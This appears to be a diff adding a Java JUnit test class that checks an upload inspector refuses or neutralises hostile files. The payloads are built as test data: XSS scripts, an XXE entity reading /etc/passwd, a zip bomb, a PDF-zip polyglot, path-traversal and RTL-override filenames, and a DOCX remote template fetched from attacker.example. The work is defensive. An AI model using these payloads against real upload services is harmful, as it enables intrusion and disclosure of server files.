@@ -1,0 +1,271 @@
+package org.safeports.library;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipInputStream;
+import java.util.zip.ZipOutputStream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.springframework.util.unit.DataSize;
+
+/**
+ * The upload corpus: what an attacker or a confused user might send, each refused with its reason
+ * or neutralised, and a genuine file of each format accepted with its text. The files are built
+ * here, so the corpus needs nothing from outside.
+ */
+class UploadCorpusTest {
+
+  static final LibraryProperties LIMITS =
+      new LibraryProperties(DataSize.ofMegabytes(2), 1000, DataSize.ofMegabytes(50), 100, 400_000);
+  final FileInspector inspector = new FileInspector(LIMITS);
+
+  static final byte[] PDF = DemoFiles.pdf("Hurricane plan", List.of("Evacuate the quay."));
+  static final byte[] DOCX = DemoFiles.docx("Tsunami plan", List.of("Sirens on the breakwater."));
+
+  private String refusal(String name, byte[] content) {
+    try {
+      inspector.inspect(name, content);
+      return "accepted";
+    } catch (UploadRefused e) {
+      return e.messageKey();
+    }
+  }
+
+  @Test
+  void eachFormatIsAcceptedWithItsText() throws UploadRefused {
+    InspectedFile pdf = inspector.inspect("plan.pdf", PDF);
+    assertThat(pdf.format()).isEqualTo(FileFormat.PDF);
+    assertThat(pdf.text()).contains("Evacuate the quay");
+    assertThat(pdf.pages()).isEqualTo(1);
+
+    assertThat(inspector.inspect("plan.docx", DOCX).text()).contains("Sirens on the breakwater");
+    assertThat(
+            inspector
+                .inspect("s.xlsx", DemoFiles.xlsx("Answers", List.of(List.of("Peru", "Mooring"))))
+                .text())
+        .contains("Mooring");
+    assertThat(
+            inspector
+                .inspect("p.pptx", DemoFiles.pptx(List.of(List.of("Cranes", "Lashing gear"))))
+                .text())
+        .contains("Lashing gear");
+    InspectedFile odt =
+        inspector.inspect("p.odt", DemoFiles.odt("Plan", List.of("Tug <standby> & pilots")));
+    assertThat(odt.format()).isEqualTo(FileFormat.ODT);
+    assertThat(odt.text()).contains("Tug <standby> & pilots");
+  }
+
+  @Test
+  void aPdfRenamedToDocxAndTheReverseAreRefused() {
+    assertThat(refusal("plan.docx", PDF)).isEqualTo("library.upload.nameMismatch");
+    assertThat(refusal("plan.pdf", DOCX)).isEqualTo("library.upload.nameMismatch");
+  }
+
+  @Test
+  void htmlOrAnExecutableNamedPdfIsRefused() {
+    byte[] html =
+        "<html><script>alert(document.cookie)</script></html>".getBytes(StandardCharsets.UTF_8);
+    assertThat(refusal("report.pdf", html)).isEqualTo("library.upload.unknownType");
+    byte[] exe = new byte[] {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0};
+    assertThat(refusal("report.pdf", exe)).isEqualTo("library.upload.unknownType");
+    assertThat(refusal("notes.txt", "plain words".getBytes(StandardCharsets.UTF_8)))
+        .isEqualTo("library.upload.unknownType");
+  }
+
+  @Test
+  void aPdfWithAnArchiveInsideIsRefused() throws IOException {
+    ByteArrayOutputStream polyglot = new ByteArrayOutputStream();
+    polyglot.write(PDF);
+    polyglot.write(zip(Map.of("evil.html", "<script>alert(1)</script>".getBytes())));
+    assertThat(refusal("plan.pdf", polyglot.toByteArray())).isEqualTo("library.upload.polyglot");
+  }
+
+  @Test
+  void aTruncatedOrDamagedFileIsRefused() {
+    byte[] half = java.util.Arrays.copyOf(PDF, PDF.length / 3);
+    assertThat(refusal("plan.pdf", half)).isEqualTo("library.upload.damaged");
+    byte[] brokenZip = java.util.Arrays.copyOf(DOCX, 40);
+    assertThat(refusal("plan.docx", brokenZip))
+        .isIn("library.upload.damaged", "library.upload.unknownType");
+  }
+
+  @Test
+  void aZipBombDocxIsRefusedBeforeAnyParserReadsIt() throws IOException {
+    Map<String, byte[]> parts = parts(DOCX);
+    parts.put("word/media/padding.bin", new byte[60 * 1024 * 1024]);
+    byte[] bomb = zip(parts);
+    assertThat((long) bomb.length).isLessThan(LIMITS.maxFileSize().toBytes());
+    assertThat(refusal("bomb.docx", bomb)).isEqualTo("library.upload.expandsTooMuch");
+  }
+
+  @Test
+  void aDocxWithTooManyPartsIsRefused() throws IOException {
+    Map<String, byte[]> parts = parts(DOCX);
+    for (int i = 0; i < 1200; i++) {
+      parts.put("customXml/item" + i + ".xml", "<a/>".getBytes());
+    }
+    assertThat(refusal("many.docx", zip(parts))).isEqualTo("library.upload.tooManyParts");
+  }
+
+  @Test
+  void aDocxWithAnExternalEntityIsRefused() throws IOException {
+    Map<String, byte[]> parts = parts(DOCX);
+    String document = new String(parts.get("word/document.xml"), StandardCharsets.UTF_8);
+    String xxe =
+        document.replaceFirst(
+            "\\?>", "?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>");
+    parts.put("word/document.xml", xxe.replace("Sirens", "&xxe;").getBytes(StandardCharsets.UTF_8));
+    assertThat(refusal("xxe.docx", zip(parts))).isEqualTo("library.upload.externalContent");
+  }
+
+  @Test
+  void aDocxFetchingARemoteTemplateIsRefusedButHyperlinksAreFine() throws IOException {
+    Map<String, byte[]> parts = parts(DOCX);
+    String rels =
+        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
+            + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+            + "<Relationship Id=\"rId99\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
+            + " Target=\"http://attacker.example/template.dotm\" TargetMode=\"External\"/>"
+            + "</Relationships>";
+    parts.put("word/_rels/settings.xml.rels", rels.getBytes(StandardCharsets.UTF_8));
+    assertThat(refusal("template.docx", zip(parts))).isEqualTo("library.upload.externalContent");
+
+    Map<String, byte[]> linked = parts(DOCX);
+    String hyperlink =
+        rels.replace("attachedTemplate", "hyperlink").replace("template.dotm", "page.html");
+    linked.put("word/_rels/settings.xml.rels", hyperlink.getBytes(StandardCharsets.UTF_8));
+    assertThat(refusal("linked.docx", zip(linked))).isEqualTo("accepted");
+  }
+
+  @Test
+  void anEmptyFileAndAnOversizeFileAreRefused() {
+    assertThat(refusal("empty.pdf", new byte[0])).isEqualTo("library.upload.empty");
+    byte[] big = new byte[(int) LIMITS.maxFileSize().toBytes() + 1];
+    System.arraycopy(PDF, 0, big, 0, PDF.length);
+    assertThat(refusal("big.pdf", big)).isEqualTo("library.upload.tooLarge");
+  }
+
+  @Test
+  void aZipThatIsNoOfficeFileIsRefused() throws IOException {
+    byte[] archive = zip(Map.of("readme.txt", "hello".getBytes()));
+    assertThat(refusal("archive.docx", archive)).isEqualTo("library.upload.unknownType");
+    byte[] escaping =
+        zip(Map.of("[Content_Types].xml", "<a/>".getBytes(), "../../evil.sh", "x".getBytes()));
+    assertThat(refusal("escape.docx", escaping)).isEqualTo("library.upload.damaged");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "../../etc/passwd.pdf",
+        "..\\..\\windows\\system32\\plan.pdf",
+        "/var/tmp/plan.pdf",
+        "plan\u0000.exe.pdf",
+        "CON.pdf",
+        "nul.pdf",
+        "LPT1.pdf",
+        "  .pdf",
+        "plan\u202Egnp.pdf",
+        "a:b*c?d|e<f>g\".pdf"
+      })
+  void dangerousNamesAreNeutralised(String name) throws UploadRefused {
+    String kept = inspector.inspect(name, PDF).fileName();
+    assertThat(kept).endsWith(".pdf");
+    assertThat(kept)
+        .doesNotContain("/", "\\", "\u0000", "\u202E", ":", "*", "?", "|", "<", ">", "\"");
+    assertThat(kept).doesNotStartWith(".");
+    assertThat(kept.toUpperCase()).doesNotMatch("(CON|NUL|LPT1)\\.PDF");
+  }
+
+  @Test
+  void aNameEndingInAnotherTypeIsRefused() {
+    assertThat(refusal("invoice\u202Efdp.exe", PDF)).isEqualTo("library.upload.nameMismatch");
+    assertThat(refusal("plan.pdf.html", PDF)).isEqualTo("library.upload.nameMismatch");
+  }
+
+  @Test
+  void aVeryLongNameIsShortenedAndKeepsItsExtension() throws UploadRefused {
+    String kept = inspector.inspect("é".repeat(5000) + ".pdf", PDF).fileName();
+    assertThat(kept).hasSize(FileNames.MAX_BASE_LENGTH + 4).endsWith(".pdf");
+  }
+
+  @Test
+  void aNameWithoutExtensionGetsTheRealOne() throws UploadRefused {
+    assertThat(inspector.inspect("Plan de contingencia", DOCX).fileName())
+        .isEqualTo("Plan de contingencia.docx");
+  }
+
+  @Test
+  void aPasswordProtectedPdfIsRefusedWithItsOwnReason() throws IOException {
+    try (var pdf = org.apache.pdfbox.Loader.loadPDF(PDF);
+        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+      var policy =
+          new org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy(
+              "owner", "user", new org.apache.pdfbox.pdmodel.encryption.AccessPermission());
+      policy.setEncryptionKeyLength(128);
+      pdf.protect(policy);
+      pdf.save(out);
+      assertThat(refusal("locked.pdf", out.toByteArray()))
+          .isEqualTo("library.upload.passwordProtected");
+    }
+  }
+
+  @Test
+  void theHighlightOfAPassageEscapesEverythingButItsOwnMarks() {
+    String headline =
+        "<img src=x onerror=alert(1)> "
+            + LibraryStore.HIGHLIGHT_START
+            + "tsunami"
+            + LibraryStore.HIGHLIGHT_END
+            + " & <b>";
+    assertThat(DocumentViews.passage(headline))
+        .isEqualTo("&lt;img src=x onerror=alert(1)&gt; <mark>tsunami</mark> &amp; &lt;b&gt;");
+  }
+
+  @Test
+  void noParserIsGivenADoctype() {
+    assertThatThrownBy(
+            () ->
+                FileInspector.secureXml()
+                    .createXMLStreamReader(
+                        new ByteArrayInputStream(
+                            "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>"
+                                .getBytes()))
+                    .getElementText())
+        .isInstanceOf(javax.xml.stream.XMLStreamException.class);
+  }
+
+  static Map<String, byte[]> parts(byte[] zip) throws IOException {
+    Map<String, byte[]> parts = new LinkedHashMap<>();
+    try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
+      ZipEntry entry;
+      while ((entry = in.getNextEntry()) != null) {
+        parts.put(entry.getName(), in.readAllBytes());
+      }
+    }
+    return parts;
+  }
+
+  static byte[] zip(Map<String, byte[]> parts) throws IOException {
+    ByteArrayOutputStream out = new ByteArrayOutputStream();
+    try (ZipOutputStream zip = new ZipOutputStream(out)) {
+      zip.setLevel(9);
+      for (Map.Entry<String, byte[]> part : parts.entrySet()) {
+        zip.putNextEntry(new ZipEntry(part.getKey()));
+        zip.write(part.getValue());
+        zip.closeEntry();
+      }
+    }
+    return out.toByteArray();
+  }
+}
